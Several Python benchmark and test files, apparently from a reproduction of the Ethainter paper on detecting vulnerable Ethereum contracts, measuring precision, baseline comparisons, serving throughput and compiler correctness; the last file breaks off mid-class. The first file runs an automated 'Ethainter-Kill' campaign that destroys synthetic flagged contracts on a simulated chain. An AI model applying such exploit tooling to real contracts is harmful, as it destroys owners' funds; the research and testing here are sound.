from repro.core.vulnerabilities import ACCESSIBLE_SELFDESTRUCT, TAINTED_SELFDESTRUCT
from repro.kill import EthainterKill

DEPLOYER = 0xD0_0D


def _deploy(chain, contract):
    args = ()
    if contract.compiled.ast.constructor is not None:
        args = tuple(
            DEPLOYER for _ in contract.compiled.ast.constructor.params
        )
    receipt = chain.deploy(DEPLOYER, contract.compiled.init_with_args(*args), value=1000)
    return receipt.contract_address if receipt.success else None


def test_exp1_automated_kill(benchmark, corpus, analyzed):
    def experiment():
        chain = Blockchain()
        chain.fund(DEPLOYER, 10**24)
        killer = EthainterKill(chain)
        targets = []
        for contract in corpus:
            result = analyzed.results[contract.index]
            if not (
                result.has(ACCESSIBLE_SELFDESTRUCT) or result.has(TAINTED_SELFDESTRUCT)
            ):
                continue
            address = _deploy(chain, contract)
            if address is not None:
                targets.append((contract, address, result))
        outcomes = []
        for contract, address, result in targets:
            outcomes.append((contract, killer.attack(address, result)))
        return outcomes

    outcomes = benchmark.pedantic(experiment, rounds=1, iterations=1)

    flagged = len(outcomes)
    destroyed = sum(1 for _, outcome in outcomes if outcome.destroyed)
    by_template = Counter()
    destroyed_by_template = Counter()
    for contract, outcome in outcomes:
        by_template[contract.template] += 1
        if outcome.destroyed:
            destroyed_by_template[contract.template] += 1

    print_table(
        "Experiment 1 — Ethainter-Kill",
        ["metric", "paper", "measured"],
        [
            ("flagged contracts attacked", 4800, flagged),
            ("destroyed", 805, destroyed),
            ("kill rate", "16.7%", "%.1f%%" % (100.0 * destroyed / max(flagged, 1))),
        ],
    )
    print_table(
        "per-template kill outcomes",
        ["template", "attacked", "destroyed"],
        [
            (template, by_template[template], destroyed_by_template[template])
            for template in sorted(by_template)
        ],
    )
    # Failure breakdown — the paper's pinpointing/limitation classes
    # (3,003/4,800 had a public entry point; "many calls resulted in an
    # error, mostly due to the limitations of Ethainter-Kill").
    reasons = Counter(
        outcome.reason or "destroyed" for _, outcome in outcomes
    )
    print_table(
        "kill outcome reasons",
        ["reason", "count"],
        sorted(reasons.items()),
    )

    # Shape assertions.
    assert flagged > 0
    assert 0 < destroyed < flagged  # nontrivial successes AND failures
    # Ground truth: every destroyed contract was genuinely exploitable.
    for contract, outcome in outcomes:
        if outcome.destroyed:
            assert contract.exploitable_selfdestruct or contract.expected_fp_kinds == set()
    # The paper's failure classes appear: magic values survive...
    magic = [o for c, o in outcomes if c.template == "kill_magic_value"]
    assert all(not o.destroyed for o in magic)
    # ...and every exploitable composite victim dies.
    victims = [o for c, o in outcomes if c.template == "composite_victim"]
    assert victims and all(o.destroyed for o in victims)


def test_exp1_solver_assisted_extension(benchmark, corpus, analyzed):
    """Extension beyond the paper: hybrid static+symbolic exploitation.

    The paper's related-work discussion contrasts Ethainter with teEther's
    exploit generation; combining them (plan-driven escalation + constraint
    solving for non-sender value guards) strictly raises the kill rate —
    the magic-value failures of the plain tool become kills.
    """

    import random

    from repro.core import analyze_bytecode
    from repro.corpus.templates import kill_magic_value
    from repro.minisol import compile_source

    # The corpus sample plus a guaranteed handful of magic-value contracts
    # (the class that separates the two modes, whatever the corpus draw).
    extra_targets = []
    for seed in range(4):
        output = kill_magic_value(random.Random(1000 + seed))
        compiled = compile_source(output.source, output.contract_name)
        extra_targets.append(compiled)

    def campaign(assisted):
        chain = Blockchain()
        chain.fund(DEPLOYER, 10**24)
        killer = EthainterKill(chain, solver_assisted=assisted)
        destroyed = flagged = 0
        for contract in corpus:
            result = analyzed.results[contract.index]
            if not (
                result.has(ACCESSIBLE_SELFDESTRUCT) or result.has(TAINTED_SELFDESTRUCT)
            ):
                continue
            address = _deploy(chain, contract)
            if address is None:
                continue
            flagged += 1
            if killer.attack(address, result).destroyed:
                destroyed += 1
        for compiled in extra_targets:
            receipt = chain.deploy(DEPLOYER, compiled.init_with_args(), value=1000)
            result = analyze_bytecode(compiled.runtime)
            flagged += 1
            if killer.attack(receipt.contract_address, result).destroyed:
                destroyed += 1
        return flagged, destroyed

    plain = campaign(False)
    assisted = benchmark.pedantic(lambda: campaign(True), rounds=1, iterations=1)

    print_table(
        "kill rate: plan-only vs solver-assisted",
        ["mode", "flagged", "destroyed", "rate"],
        [
            ("plan-only (paper's tool)", plain[0], plain[1], "%.0f%%" % (100 * plain[1] / max(plain[0], 1))),
            ("solver-assisted (extension)", assisted[0], assisted[1], "%.0f%%" % (100 * assisted[1] / max(assisted[0], 1))),
        ],
    )
    assert assisted[1] > plain[1]  # the magic-value class flips to killed
    assert assisted[1] > 0


def test_single_composite_kill_cost(benchmark, corpus, analyzed):
    """Latency of one full composite attack (plan + 4 transactions)."""
    contract = next(c for c in corpus if c.template == "composite_victim")
    result = analyzed.results[contract.index]

    def attack_once():
        chain = Blockchain()
        chain.fund(DEPLOYER, 10**20)
        address = _deploy(chain, contract)
        return EthainterKill(chain).attack(address, result)

    outcome = benchmark(attack_once)
    assert outcome.destroyed
