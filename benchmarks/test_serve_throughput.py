"""Serving throughput: warm completed-work reuse vs cold analysis.

The daemon exists so the §6.1 duplicate-heavy regime pays per *unique*
contract, not per request: a request whose identity has already been
served resolves from the completed-row cache without touching the
analysis pipeline.  This benchmark pins that property end to end over
real HTTP — the warm pass (same contracts again) must be at least
``MIN_SPEEDUP`` times faster than the cold pass (first sight of every
contract), and a duplicate-heavy ``/batch`` must analyze only the unique
identities.  Results are written to ``BENCH_serve.json`` (path
overridable via the ``BENCH_SERVE_JSON`` env var) so CI tracks serving
throughput from artifact to artifact.
"""

from __future__ import annotations

import http.client
import json
import os
import threading
import time
from typing import Dict

import pytest

from benchmarks.conftest import print_table
from repro.corpus import generate_corpus
from repro.serve import AnalysisServer, ServeOptions

MIN_SPEEDUP = 5.0  # warm pass wall-clock <= cold pass / 5
CONTRACTS = 40
SEED = 2020
BATCH_COPIES = 8  # duplicate-heavy /batch: every contract repeated 8x

_RESULTS: Dict[str, Dict] = {}


@pytest.fixture(scope="module", autouse=True)
def _write_report():
    """Write ``BENCH_serve.json`` after the module's benchmarks ran (even
    partially — a failed assertion still leaves the measured numbers)."""
    yield
    path = os.environ.get("BENCH_SERVE_JSON", "BENCH_serve.json")
    with open(path, "w") as handle:
        json.dump(_RESULTS, handle, indent=2, sort_keys=True)
    print("\nserve throughput benchmark written to %s" % path)


@pytest.fixture(scope="module")
def served():
    """One warm daemon (inline pool, port auto-assigned) for the module."""
    import asyncio

    holder = {}
    ready = threading.Event()

    def run():
        async def main():
            server = AnalysisServer(ServeOptions(port=0, jobs=0))
            await server.start()
            holder["server"] = server
            holder["port"] = server.address[1]
            ready.set()
            await server.run_until_shutdown()

        asyncio.run(main())

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    assert ready.wait(15), "server failed to start"
    yield holder["server"], holder["port"]
    holder["server"].request_shutdown()
    thread.join(30)


def _post(port, path, payload):
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=300)
    conn.request("POST", path, body=json.dumps(payload).encode())
    response = conn.getresponse()
    body = response.read()
    conn.close()
    return response.status, body


def _analyze_pass(port, bytecodes):
    """POST /analyze for every contract; returns (seconds, bodies)."""
    bodies = []
    start = time.perf_counter()
    for runtime in bytecodes:
        status, body = _post(port, "/analyze", {"bytecode": runtime.hex()})
        assert status == 200, body
        bodies.append(body)
    return time.perf_counter() - start, bodies


class TestServeThroughput:
    def test_warm_requests_beat_cold_by_5x(self, served):
        server, port = served
        contracts = generate_corpus(CONTRACTS, seed=SEED)
        bytecodes = [contract.runtime for contract in contracts]

        cold_s, cold_bodies = _analyze_pass(port, bytecodes)
        warm_s, warm_bodies = _analyze_pass(port, bytecodes)

        # The warm pass is completed-work reuse, byte for byte: nothing
        # was re-analyzed, and every duplicate got the identical report.
        assert warm_bodies == cold_bodies
        assert server.backend.stats.analyzed == CONTRACTS
        assert server.backend.stats.report_cache_hits == CONTRACTS

        speedup = cold_s / warm_s
        _RESULTS["warm_vs_cold"] = {
            "contracts": CONTRACTS,
            "cold_seconds": round(cold_s, 4),
            "warm_seconds": round(warm_s, 4),
            "cold_req_per_s": round(CONTRACTS / cold_s, 2),
            "warm_req_per_s": round(CONTRACTS / warm_s, 2),
            "speedup": round(speedup, 2),
            "min_speedup": MIN_SPEEDUP,
        }
        print_table(
            "Serve throughput: %d contracts over HTTP" % CONTRACTS,
            ["pass", "seconds", "req/s"],
            [
                ["cold", "%.3f" % cold_s, "%.1f" % (CONTRACTS / cold_s)],
                ["warm", "%.3f" % warm_s, "%.1f" % (CONTRACTS / warm_s)],
                ["speedup", "%.1fx" % speedup, ""],
            ],
        )
        assert speedup >= MIN_SPEEDUP, (
            "warm pass only %.1fx faster than cold (floor %.1fx)"
            % (speedup, MIN_SPEEDUP)
        )

    def test_duplicate_heavy_batch_pays_per_unique_contract(self, served):
        server, port = served
        contracts = generate_corpus(8, seed=SEED + 1)
        baseline = server.backend.stats.analyzed
        payload = {
            "contracts": [
                {"bytecode": contract.runtime.hex()}
                for contract in contracts
            ]
            * BATCH_COPIES
        }
        start = time.perf_counter()
        status, body = _post(port, "/batch", payload)
        elapsed = time.perf_counter() - start
        assert status == 200
        lines = [json.loads(line) for line in body.splitlines() if line]
        assert len(lines) == len(contracts) * BATCH_COPIES
        assert all("report" in line for line in lines)

        analyzed = server.backend.stats.analyzed - baseline
        assert analyzed == len(contracts)  # duplicates coalesced/cached
        _RESULTS["duplicate_heavy_batch"] = {
            "requests": len(lines),
            "unique_contracts": len(contracts),
            "analyzed": analyzed,
            "seconds": round(elapsed, 4),
            "req_per_s": round(len(lines) / elapsed, 2),
        }
        print_table(
            "Duplicate-heavy /batch: %d requests, %d unique"
            % (len(lines), len(contracts)),
            ["metric", "value"],
            [
                ["analyzed", analyzed],
                ["seconds", "%.3f" % elapsed],
                ["req/s", "%.1f" % (len(lines) / elapsed)],
            ],
        )
