"""§6.2 comparison with Securify (v1).

Paper: over a 2K-contract random sample Securify flags 39.2% for the two
comparable violation patterns ("unrestricted write", "missing input
validation") and 75% for *some* violation; 0/40 manually inspected flagged
contracts were end-to-end vulnerable (0% precision).  The dissected cause:
no data-structure modeling (mapping writes look like unrestricted writes)
and no understanding of non-equality validation.

Shape to reproduce: Securify flags an order of magnitude more contracts
than Ethainter, with near-zero end-to-end precision, while Ethainter keeps
high precision at a low flag rate.
"""

from benchmarks.conftest import print_table
from repro.baselines import SecurifyAnalysis


def test_securify_comparison(benchmark, corpus, analyzed):
    def experiment():
        securify = SecurifyAnalysis()
        flagged = []
        for contract in corpus:
            result = securify.analyze(contract.runtime)
            if result.flagged:
                flagged.append((contract, result))
        return flagged

    flagged = benchmark.pedantic(experiment, rounds=1, iterations=1)

    flag_rate = len(flagged) / len(corpus)
    true_positive = sum(1 for contract, _ in flagged if contract.is_vulnerable)
    precision = true_positive / len(flagged) if flagged else 0.0
    violations_per_contract = (
        sum(len(result.violations) for _, result in flagged) / len(flagged)
        if flagged
        else 0.0
    )

    ethainter_flagged = analyzed.flagged_any()
    ethainter_tp = sum(1 for c in ethainter_flagged if c.is_vulnerable)
    ethainter_precision = (
        ethainter_tp / len(ethainter_flagged) if ethainter_flagged else 0.0
    )

    print_table(
        "Securify v1 comparison",
        ["metric", "paper", "measured"],
        [
            ("securify flag rate", "39-75%", "%.1f%%" % (100 * flag_rate)),
            ("securify precision", "0/40 (0%)", "%.1f%%" % (100 * precision)),
            (
                "violations per flagged contract",
                ">= 10",
                "%.1f" % violations_per_contract,
            ),
            (
                "ethainter flag rate",
                "~3%",
                "%.1f%%" % (100 * len(ethainter_flagged) / len(corpus)),
            ),
            ("ethainter precision", "82.5%", "%.1f%%" % (100 * ethainter_precision)),
        ],
    )

    # Shape assertions.
    assert flag_rate > 0.3  # Securify flags a huge share of the corpus
    assert precision < 0.2  # with near-zero end-to-end precision
    assert len(flagged) > 3 * len(ethainter_flagged)
    assert ethainter_precision > precision + 0.4

    # The paper's dissected example: a benign token is flagged by Securify
    # but not by Ethainter.
    token = next(c for c in corpus if c.template == "safe_token")
    assert SecurifyAnalysis().analyze(token.runtime).flagged
    assert not analyzed.results[token.index].flagged


def test_securify_single_contract_cost(benchmark, corpus):
    contract = next(c for c in corpus if c.template == "safe_token")
    result = benchmark(lambda: SecurifyAnalysis().analyze(contract.runtime))
    assert result.flagged
