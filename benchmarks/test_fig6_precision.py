"""Figure 6: manual inspection of sampled warnings -> precision estimate.

Paper: 40 randomly sampled flagged contracts with verified sources,
inspected by hand; 33/40 warnings valid => 82.5% precision.  Per-category:
accessible selfdestruct 10/10, tainted selfdestruct 6/6, tainted owner
15/21, tainted delegatecall 1/1, unchecked staticcall 1/2.

Our corpus carries ground-truth labels, so "manual inspection" becomes an
exact comparison.  The sampling protocol mirrors the paper: contracts are
sorted by (hashed) identity, sampled until every flagged category is
represented, warnings scored per category.

Shape to reproduce: high overall precision (well above the baselines'
near-zero), with the documented FP classes (one-shot initializers,
game-winner slots, dead-state guards) supplying the shortfall.
"""

from benchmarks.conftest import print_table
from repro.core.vulnerabilities import VULNERABILITY_KINDS

PAPER_PER_KIND = {
    "accessible-selfdestruct": (10, 10),
    "tainted-selfdestruct": (6, 6),
    "tainted-owner-variable": (15, 21),
    "tainted-delegatecall": (1, 1),
    "unchecked-tainted-staticcall": (1, 2),
}
SAMPLE_TARGET = 40


def test_fig6_precision(benchmark, corpus, analyzed):
    def experiment():
        flagged = [
            contract
            for contract in analyzed.flagged_any()
            if contract.has_source  # paper: verified sources on Etherscan
        ]
        # Deterministic "random" order: sort by a hash of the name, like the
        # paper's lexicographic sort of contract address hashes.
        from repro.evm.hashing import keccak_int

        flagged.sort(key=lambda c: keccak_int(c.name.encode()))
        sample = flagged[:SAMPLE_TARGET] if len(flagged) > SAMPLE_TARGET else flagged

        per_kind = {kind: [0, 0] for kind in VULNERABILITY_KINDS}
        for contract in sample:
            result = analyzed.results[contract.index]
            for kind in {w.kind for w in result.warnings}:
                per_kind[kind][1] += 1
                if kind in contract.labels:
                    per_kind[kind][0] += 1
        return sample, per_kind

    sample, per_kind = benchmark.pedantic(experiment, rounds=1, iterations=1)

    rows = []
    total_tp = total = 0
    for kind in VULNERABILITY_KINDS:
        tp, count = per_kind[kind]
        total_tp += tp
        total += count
        # The reentrancy stratum postdates the paper's Fig. 6 sample (it
        # has its own benchmark, test_reentrancy_precision.py).
        paper = PAPER_PER_KIND.get(kind)
        rows.append(
            (
                kind,
                "%d/%d" % paper if paper else "—",
                "%d/%d" % (tp, count),
            )
        )
    precision = total_tp / total if total else 0.0
    rows.append(("TOTAL", "33/40 (82.5%)", "%d/%d (%.1f%%)" % (total_tp, total, 100 * precision)))
    print_table(
        "Figure 6 — sampled-warning precision (paper: manual inspection; "
        "here: ground truth)",
        ["vulnerability", "paper TP", "measured TP"],
        rows,
    )

    # Shape assertions.
    assert len(sample) >= 15  # enough flagged-with-source contracts to score
    assert precision >= 0.6  # high precision (paper: 82.5%)
    # The documented FP classes appear in the corpus at large (the random
    # sample may or may not catch one, exactly like the paper's 40).
    corpus_fps = [
        contract
        for contract in analyzed.flagged_any()
        if {w.kind for w in analyzed.results[contract.index].warnings}
        - contract.labels
    ]
    assert corpus_fps, "expected some false positives corpus-wide"
    # Accessible/tainted selfdestruct stay the most precise categories,
    # tainted-owner supplies FPs (its Fig. 6 row is the weakest).
    owner_tp, owner_total = per_kind["tainted-owner-variable"]
    if owner_total:
        sd_tp, sd_total = per_kind["tainted-selfdestruct"]
        if sd_total:
            assert sd_tp / sd_total >= owner_tp / owner_total
