"""Orchestrator overhead: supervised workers vs the legacy process pool.

The paper's whole-chain sweep (§6.1) ran 45 concurrent analyzer processes
for days; the harness only works if supervision (watchdog polling, private
result pipes, journal bookkeeping) costs roughly nothing when nothing goes
wrong.  This benchmark pins that claim: on a clean corpus the orchestrator
executor must finish within ``MAX_OVERHEAD`` of the legacy
``multiprocessing.Pool`` path while producing entry-identical results.
Results are written to ``BENCH_orchestrator.json`` (path overridable via
the ``BENCH_ORCHESTRATOR_JSON`` env var) so CI tracks the overhead
trajectory from artifact to artifact.
"""

from __future__ import annotations

import json
import os
import time
from typing import Dict

import pytest

from benchmarks.conftest import print_table
from repro import api
from repro.corpus import generate_corpus

MAX_OVERHEAD = 1.05  # orchestrator wall-clock <= 1.05x pool wall-clock
SWEEP_CONTRACTS = 70
SWEEP_SEED = 2020
JOBS = 2
ROUNDS = 3  # best-of-N to shave scheduler noise off both sides

_RESULTS: Dict[str, Dict] = {}


@pytest.fixture(scope="module", autouse=True)
def _write_report():
    """Write ``BENCH_orchestrator.json`` after the module's benchmarks ran
    (even partially — a failed assertion still leaves the measured numbers)."""
    yield
    path = os.environ.get("BENCH_ORCHESTRATOR_JSON", "BENCH_orchestrator.json")
    with open(path, "w") as handle:
        json.dump(_RESULTS, handle, indent=2, sort_keys=True)
    print("\norchestrator overhead benchmark written to %s" % path)


def _entry_blob(summary):
    return json.dumps(
        [
            {
                "index": entry.index,
                "kinds": list(entry.kinds),
                "error": entry.error,
                "warnings": entry.warnings,
            }
            for entry in summary.entries
        ],
        sort_keys=True,
    )


def _best_of(executor, bytecodes):
    """Best wall-clock over ROUNDS clean sweeps; returns (seconds, blob)."""
    best = float("inf")
    blob = None
    for _ in range(ROUNDS):
        start = time.perf_counter()
        summary = api.sweep(bytecodes, jobs=JOBS, executor=executor)
        elapsed = time.perf_counter() - start
        assert summary.errors == 0, summary.error_kind_counts
        if elapsed < best:
            best = elapsed
        blob = _entry_blob(summary)
    return best, blob


class TestOrchestratorOverhead:
    def test_clean_run_overhead_within_budget(self):
        contracts = generate_corpus(SWEEP_CONTRACTS, seed=SWEEP_SEED)
        bytecodes = [contract.runtime for contract in contracts]

        pool_s, pool_blob = _best_of("pool", bytecodes)
        orch_s, orch_blob = _best_of("orchestrator", bytecodes)
        assert orch_blob == pool_blob  # entry-identical results

        overhead = orch_s / pool_s
        _RESULTS["clean_sweep"] = {
            "contracts": SWEEP_CONTRACTS,
            "jobs": JOBS,
            "rounds": ROUNDS,
            "pool_seconds": round(pool_s, 4),
            "orchestrator_seconds": round(orch_s, 4),
            "overhead": round(overhead, 4),
            "max_overhead": MAX_OVERHEAD,
            "entries_identical": True,
        }
        print_table(
            "Orchestrator overhead: %d contracts, %d workers, best of %d"
            % (SWEEP_CONTRACTS, JOBS, ROUNDS),
            ["executor", "seconds"],
            [
                ["pool", "%.3f" % pool_s],
                ["orchestrator", "%.3f" % orch_s],
                ["overhead", "%.3fx" % overhead],
            ],
        )
        assert overhead <= MAX_OVERHEAD, (
            "orchestrator %.3fx slower than the legacy pool (budget %.2fx)"
            % (overhead, MAX_OVERHEAD)
        )
