"""§6.2 comparison with teEther: static analysis vs symbolic execution.

Paper: teEther flags 463 contracts for accessible selfdestruct on the full
dataset; Ethainter flags 77% of those (its completeness gauge) while
flagging over 6x more in total (2,800+).  Conversely teEther reports
nothing on 20 hand-checked Ethainter-flagged contracts (13 silent misses,
5 timeouts, 2 crashes).

Shape to reproduce: teEther's reports are a small, high-confidence subset;
Ethainter covers most of them and many more (all the multi-transaction
composite chains teEther's single-transaction exploration cannot see);
teEther times out when its path budget is squeezed.
"""

from benchmarks.conftest import print_table
from repro.baselines import TeEtherAnalysis
from repro.core.vulnerabilities import ACCESSIBLE_SELFDESTRUCT, TAINTED_SELFDESTRUCT


def test_teether_comparison(benchmark, corpus, analyzed):
    def experiment():
        teether = TeEtherAnalysis()
        outcomes = []
        for contract in corpus:
            outcomes.append((contract, teether.analyze(contract.runtime)))
        return outcomes

    outcomes = benchmark.pedantic(experiment, rounds=1, iterations=1)

    teether_flagged = [
        contract
        for contract, result in outcomes
        if "accessible-selfdestruct" in result.kinds()
    ]
    ethainter_flagged = analyzed.flagged(ACCESSIBLE_SELFDESTRUCT)
    ethainter_set = {contract.index for contract in ethainter_flagged}
    overlap = [c for c in teether_flagged if c.index in ethainter_set]
    overlap_rate = len(overlap) / len(teether_flagged) if teether_flagged else 0.0

    teether_tp = sum(1 for c in teether_flagged if c.is_vulnerable)
    teether_precision = teether_tp / len(teether_flagged) if teether_flagged else 0.0

    # Completeness the other way: how many Ethainter-flagged true positives
    # does teEther miss?
    ethainter_tp_contracts = [c for c in ethainter_flagged if c.is_vulnerable]
    teether_set = {c.index for c in teether_flagged}
    missed_by_teether = [c for c in ethainter_tp_contracts if c.index not in teether_set]

    print_table(
        "teEther comparison",
        ["metric", "paper", "measured"],
        [
            ("teether flags (accessible sd)", 463, len(teether_flagged)),
            ("ethainter flags (accessible sd)", "2800+ (6x)", len(ethainter_flagged)),
            ("teether flags also ethainter-flagged", "77%", "%.0f%%" % (100 * overlap_rate)),
            ("teether precision", "high (exploit traces)", "%.0f%%" % (100 * teether_precision)),
            (
                "ethainter TPs missed by teether",
                "20/20 sample",
                "%d/%d" % (len(missed_by_teether), len(ethainter_tp_contracts)),
            ),
        ],
    )

    # Shape assertions.
    assert teether_flagged, "teether must find the simple open selfdestructs"
    assert len(ethainter_flagged) > len(teether_flagged)  # completeness gap
    assert overlap_rate >= 0.7  # Ethainter covers most teether reports
    assert teether_precision >= 0.8  # near-dynamic confidence
    # Composite chains are invisible to single-transaction symbolic
    # execution but caught by Ethainter.
    composites = [c for c in corpus if c.template in ("composite_victim", "composite_registry")]
    for contract in composites:
        assert contract.index in ethainter_set
        assert contract.index not in teether_set


def test_teether_timeout_behaviour(benchmark, corpus):
    """A squeezed path budget produces timeouts, like the paper's 5/20."""
    victim = next(c for c in corpus if c.template == "safe_token")

    def squeezed():
        return TeEtherAnalysis(max_total_steps=40, max_paths=1).analyze(victim.runtime)

    result = benchmark.pedantic(squeezed, rounds=1, iterations=1)
    assert result.timed_out


def test_teether_single_contract_cost(benchmark, corpus):
    contract = next(c for c in corpus if c.template == "open_selfdestruct")
    result = benchmark(lambda: TeEtherAnalysis().analyze(contract.runtime))
    assert result.flagged
