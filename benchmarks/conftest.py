"""Shared benchmark fixtures: one corpus, analyzed once per configuration.

Every benchmark regenerates a table or figure from the paper's §6; the
fixtures here hold the expensive artifacts (corpus generation + whole-corpus
analysis) at session scope so individual benchmarks stay fast.  Each
benchmark prints a paper-vs-measured comparison — absolute numbers differ
(our universe is a synthetic corpus, not the 2019 mainnet), the *shape* is
what must reproduce.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List

import pytest

from repro.core import AnalysisConfig, AnalysisResult, ArtifactCache, analyze_bytecode
from repro.corpus import CorpusContract, generate_corpus

CORPUS_SIZE = 600
CORPUS_SEED = 2020


@dataclass
class AnalyzedCorpus:
    contracts: List[CorpusContract]
    results: Dict[int, AnalysisResult] = field(default_factory=dict)

    def flagged(self, kind: str) -> List[CorpusContract]:
        return [
            contract
            for contract in self.contracts
            if self.results[contract.index].has(kind)
        ]

    def flagged_any(self) -> List[CorpusContract]:
        return [
            contract
            for contract in self.contracts
            if self.results[contract.index].flagged
        ]


def _analyze_corpus(contracts, config=None, cache=None) -> AnalyzedCorpus:
    analyzed = AnalyzedCorpus(contracts=contracts)
    for contract in contracts:
        analyzed.results[contract.index] = analyze_bytecode(
            contract.runtime, config, cache=cache
        )
    return analyzed


@pytest.fixture(scope="session")
def corpus():
    return generate_corpus(CORPUS_SIZE, seed=CORPUS_SEED)


@pytest.fixture(scope="session")
def prefix_cache():
    """One artifact cache shared by all four Fig. 8 configurations: the
    ablation flags only fingerprint the taint/detect stages, so the
    lift/facts/storage/guards prefix is computed once per contract across
    the whole battery."""
    return ArtifactCache(max_entries=64 * CORPUS_SIZE)


@pytest.fixture(scope="session")
def analyzed(corpus, prefix_cache):
    """Default-configuration Ethainter results for the whole corpus."""
    return _analyze_corpus(corpus, cache=prefix_cache)


@pytest.fixture(scope="session")
def analyzed_no_guards(corpus, prefix_cache):
    return _analyze_corpus(
        corpus, AnalysisConfig(model_guards=False), cache=prefix_cache
    )


@pytest.fixture(scope="session")
def analyzed_no_storage(corpus, prefix_cache):
    return _analyze_corpus(
        corpus, AnalysisConfig(model_storage_taint=False), cache=prefix_cache
    )


@pytest.fixture(scope="session")
def analyzed_conservative(corpus, prefix_cache):
    return _analyze_corpus(
        corpus, AnalysisConfig(conservative_storage=True), cache=prefix_cache
    )


def print_table(title: str, headers, rows) -> None:
    """Uniform table printer for paper-vs-measured output."""
    print("\n== %s ==" % title)
    widths = [
        max(len(str(headers[i])), max((len(str(r[i])) for r in rows), default=0))
        for i in range(len(headers))
    ]
    print("  ".join(str(h).ljust(w) for h, w in zip(headers, widths)))
    for row in rows:
        print("  ".join(str(cell).ljust(w) for cell, w in zip(row, widths)))
