"""Disassembler: linear sweep, push immediates, truncation."""

from hypothesis import given, strategies as st

from repro.evm.assembler import Op, Push, assemble
from repro.evm.disassembler import (
    disassemble,
    format_disassembly,
    instruction_map,
    iter_code,
    jumpdest_offsets,
)


class TestSweep:
    def test_simple_program(self):
        code = bytes([0x60, 0x01, 0x60, 0x02, 0x01, 0x00])  # PUSH1 1 PUSH1 2 ADD STOP
        names = [ins.name for ins in disassemble(code)]
        assert names == ["PUSH1", "PUSH1", "ADD", "STOP"]

    def test_offsets_skip_immediates(self):
        code = bytes([0x61, 0xAA, 0xBB, 0x00])  # PUSH2 0xAABB STOP
        instructions = disassemble(code)
        assert [ins.offset for ins in instructions] == [0, 3]
        assert instructions[0].operand == 0xAABB

    def test_truncated_push_pads_with_zeros(self):
        code = bytes([0x62, 0xAA])  # PUSH3 with only one immediate byte
        (ins,) = disassemble(code)
        assert ins.operand == 0xAA0000

    def test_unknown_bytes_become_unknown_instructions(self):
        code = bytes([0x0C, 0x0D])
        names = [ins.name for ins in disassemble(code)]
        assert all(name.startswith("UNKNOWN") for name in names)

    def test_empty_code(self):
        assert disassemble(b"") == []

    def test_next_offset_and_size(self):
        code = bytes([0x60, 0x01, 0x00])
        first = disassemble(code)[0]
        assert first.size == 2
        assert first.next_offset == 2


class TestHelpers:
    def test_jumpdest_offsets(self):
        code = bytes([0x5B, 0x60, 0x5B, 0x5B])  # JUMPDEST PUSH1 0x5B JUMPDEST
        assert jumpdest_offsets(code) == [0, 3]

    def test_jumpdest_inside_push_not_counted(self):
        code = bytes([0x60, 0x5B, 0x00])
        assert jumpdest_offsets(code) == []

    def test_instruction_map_keys(self):
        code = bytes([0x60, 0x01, 0x00])
        mapping = instruction_map(code)
        assert set(mapping) == {0, 2}

    def test_iter_code_matches_disassemble(self):
        code = assemble([Push(5), Push(7), Op("ADD"), Op("STOP")])
        assert list(iter_code(code)) == disassemble(code)

    def test_format_contains_offsets_and_names(self):
        text = format_disassembly(bytes([0x60, 0xFF, 0x00]))
        assert "PUSH1 0xff" in text
        assert "STOP" in text

    @given(st.binary(max_size=256))
    def test_sweep_covers_every_byte_once(self, code):
        instructions = disassemble(code)
        covered = sum(ins.size for ins in instructions)
        # The final PUSH may extend past the end of the code.
        assert covered >= len(code)
        offsets = [ins.offset for ins in instructions]
        assert offsets == sorted(set(offsets))
