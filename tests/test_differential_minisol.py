"""Differential testing: compiled EVM execution vs the reference interpreter.

Hypothesis generates random expression trees and statement programs; each
runs both through the full pipeline (MiniSol -> EVM bytecode -> interpreter
on the chain simulator) and through the direct AST interpreter.  Results
must agree bit-for-bit, including 256-bit wrapping, division-by-zero, and
require-revert behaviour — a whole-compiler correctness oracle.
"""

import pytest
from hypothesis import given, settings, strategies as st

from repro.chain import Blockchain
from repro.minisol import compile_source
from repro.minisol.abi import decode_word
from tests.minisol_reference import ReferenceContract, RequireFailed

SENDER = 0xCA11
WORD = (1 << 256) - 1


def run_compiled(source, fn, args, sender=SENDER):
    contract = compile_source(source)
    chain = Blockchain()
    chain.fund(0xD, 10**18)
    chain.fund(sender, 10**18)
    address = chain.deploy(0xD, contract.init_with_args()).contract_address
    receipt = chain.transact(sender, address, contract.calldata(fn, *args))
    state = {
        slot: value
        for slot, value in chain.state.account(address).storage.items()
        if slot < 16  # scalar slots only (mapping slots are hash-sized)
    }
    return receipt.success, decode_word(receipt.return_data), state


def run_reference(source, fn, args, sender=SENDER):
    reference = ReferenceContract(source, sender=sender)
    try:
        value = reference.call(fn, list(args))
        scalars = {
            index: reference.state[var.name]
            for index, var in enumerate(reference.program.contracts[0].state_vars)
            if not isinstance(reference.state[var.name], dict)
            and reference.state[var.name] != 0
        }
        return True, value or 0, scalars
    except RequireFailed:
        return False, 0, {}


# ---------------------------------------------------------------- generators

_BIN_OPS = ["+", "-", "*", "/", "%", "==", "!=", "<", ">", "<=", ">=", "&&", "||"]


@st.composite
def expression(draw, depth=0):
    if depth >= 3 or draw(st.booleans()):
        choice = draw(st.integers(0, 2))
        if choice == 0:
            return str(draw(st.integers(0, 1000)))
        if choice == 1:
            return draw(st.sampled_from(["a", "b"]))
        return draw(st.sampled_from(["s", "t"]))
    if draw(st.integers(0, 5)) == 0:
        inner = draw(expression(depth=depth + 1))
        return "(!(%s))" % inner
    op = draw(st.sampled_from(_BIN_OPS))
    left = draw(expression(depth=depth + 1))
    right = draw(expression(depth=depth + 1))
    return "(%s %s %s)" % (left, op, right)


@st.composite
def statement_program(draw):
    """A function over params a, b and state vars s, t."""
    lines = []
    for _ in range(draw(st.integers(1, 4))):
        kind = draw(st.integers(0, 3))
        target = draw(st.sampled_from(["s", "t"]))
        expr = draw(expression())
        if kind == 0:
            lines.append("%s = %s;" % (target, expr))
        elif kind == 1:
            lines.append("%s += %s;" % (target, expr))
        elif kind == 2:
            condition = draw(expression())
            lines.append(
                "if (%s) { %s = %s; } else { %s = %s + 1; }"
                % (condition, target, expr, target, expr)
            )
        else:
            lines.append("%s -= %s;" % (target, expr))
    return_expr = draw(expression())
    body = "\n        ".join(lines)
    return (
        """
contract D {
    uint256 s;
    uint256 t;
    function f(uint256 a, uint256 b) public returns (uint256) {
        %s
        return %s;
    }
}
"""
        % (body, return_expr)
    )


class TestExpressionDifferential:
